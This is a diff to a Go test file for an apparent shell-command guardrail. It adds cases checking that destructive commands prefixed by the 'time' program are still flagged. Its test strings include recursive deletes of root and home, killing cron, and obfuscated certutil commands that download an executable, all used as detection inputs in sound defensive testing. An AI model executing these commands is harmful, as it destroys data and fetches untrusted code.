@@ -4,6 +4,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/guardrail-go/guardrail/middleware"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 	"mvdan.cc/sh/v3/syntax"
@@ -25,6 +26,10 @@ func TestAnalyzeSpelledNames(t *testing.T) {
 		{`"$(echo rm)" -rf /`, IDRmRoot},
 		{"$(echo kill) $(pgrep cron)", IDKillSystem},
 		{"kill $($(echo pgrep) cron)", IDKillSystem},
+		// time with options is the time program, not the keyword
+		{`time -f "%e %M" rm -rf /`, IDRmRoot},
+		{`time -o t.txt -- rm -rf ~`, IDRmHome},
+		{`time -f "%e %M" make`, ""},
 		// Windows tool names with the escapes cmd.exe and sh drop
 		{`c\ertutil -urlcache -split -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
 		{`c^ertutil -urlcache -split -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
@@ -98,4 +103,13 @@ func TestWinPlainNames(t *testing.T) {
 			assert.Equal(t, tt.want, got)
 		})
 	}
+}
+
+func TestEffectsTimeProgram(t *testing.T) {
+	t.Parallel()
+	runEffectCases(t, false, []effectCase{
+		{"time -f", `time -f "%e %M" make`, []middleware.Effect{ex("time"), ex("make")}, []middleware.Effect{ex("-f"), ex("%e %M")}},
+		{"time -p", "time -p rm -rf /x", []middleware.Effect{del("/x")}, []middleware.Effect{ex("-p")}},
+		{"time -o", "time -o t.txt -v rm -rf /x", []middleware.Effect{del("/x")}, []middleware.Effect{ex("-o"), ex("t.txt")}},
+	})
 }
